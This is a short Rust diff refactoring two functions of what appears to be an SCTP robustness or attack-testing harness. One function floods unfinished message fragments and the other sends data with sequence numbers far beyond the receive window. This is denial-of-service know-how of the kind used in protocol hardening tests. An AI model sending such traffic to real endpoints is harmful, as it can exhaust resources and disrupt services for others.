@@ -53,7 +53,9 @@ fn send_unfinished_messages(context: &mut AttackContext<'_>) -> Result<()> {
             context.attempts += 1;
             let begin = piece % 50 == 0;
             association.tsn = association.tsn.wrapping_add(u32::from(begin && piece > 0));
-            association.send_data(context, (0, ddp::PPID_SEGMENT), (begin, false), &[7; 1200])?;
+            let header =
+                DataHeader { ppid: ddp::PPID_SEGMENT, begin, end: false, ..DataHeader::default() };
+            association.send_data(context, header, &[7; 1200])?;
         }
         all.push(association);
     }
@@ -77,7 +79,7 @@ fn send_data_beyond_window(context: &mut AttackContext<'_>) -> Result<()> {
         association.tsn = first
             .wrapping_add([0x7000_0000, 0xffff_0000, 3, 3, 100_000][n as usize % 5])
             .wrapping_add(n);
-        association.send_data(context, (0, ddp::PPID_SEGMENT), (true, true), &[7; 32])?;
+        association.send_message(context, 0, ddp::PPID_SEGMENT, &[7; 32])?;
     }
     context.settle(Duration::from_millis(100));
     association.send_abort(context)
